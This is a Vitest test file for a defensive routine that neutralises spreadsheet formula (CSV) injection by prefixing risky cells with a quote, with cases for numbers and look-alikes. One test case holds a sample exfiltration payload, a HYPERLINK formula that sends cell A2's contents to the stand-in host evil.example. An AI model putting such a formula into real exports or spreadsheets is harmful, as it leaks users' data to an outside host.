import { describe, expect, it } from 'vitest';
import { formulaStarts, neutraliseFormula, startsAsFormula } from '#domain/spreadsheet-cell.ts';

// The rule the records file applies to every cell (OWASP CSV Injection;
// docs/architecture/security.md#the-records-file): a cell a spreadsheet would run as a formula
// gets a leading ', a plain decimal stays a number.

describe('a spreadsheet cell that could run as a formula', () => {
  it.each(formulaStarts())('is neutralised when it starts with %j', (start) => {
    const cell = `${start}HYPERLINK("http://evil.example/?d="&A2,"Click")`;
    expect(startsAsFormula(cell)).toBe(true);
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it.each(['-5', '-5.00', '-12.5', '0.00'])('keeps the plain decimal %j as a number', (cell) => {
    expect(startsAsFormula(cell)).toBe(false);
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it.each(['-5.00x', '-5.', '--5', '-5.5.5', '-.5', '=-5', '+5', '-5e3', '- 5'])(
    'neutralises %j, which only looks like a number',
    (cell) => {
      expect(startsAsFormula(cell)).toBe(true);
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each(['Oak chair', 'a=b', 'chair -5', '5-4', "'=1", ' =1', ''])(
    'leaves %j as it is: it does not start as a formula',
    (cell) => {
      expect(startsAsFormula(cell)).toBe(false);
      expect(neutraliseFormula(cell)).toBe(cell);
    },
  );
});
